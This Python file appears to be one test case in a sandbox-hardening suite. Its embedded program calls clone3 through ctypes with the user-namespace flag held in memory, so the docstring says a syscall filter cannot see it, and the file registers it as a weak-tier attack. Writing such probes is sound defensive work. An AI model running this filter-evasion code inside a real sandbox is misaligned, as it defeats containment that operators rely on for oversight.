"""Makes a namespace by a call whose flags lie in memory, where no filter of calls can see them."""

from hostile import Attack, Tier

PROGRAM = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def f(x):
    arguments = (ctypes.c_uint64 * 11)()
    arguments[0], arguments[4] = 0x10000000, 17
    child = libc.syscall(435, ctypes.byref(arguments), 88)
    if child == 0: os._exit(0)
    if child < 0: raise OSError(ctypes.get_errno(), "clone3")
    os.waitpid(child, 0)
    return 2
"""

ATTACK = Attack(PROGRAM, tier=Tier.WEAK, needs="namespaces of users", exceptions=("OSError",))
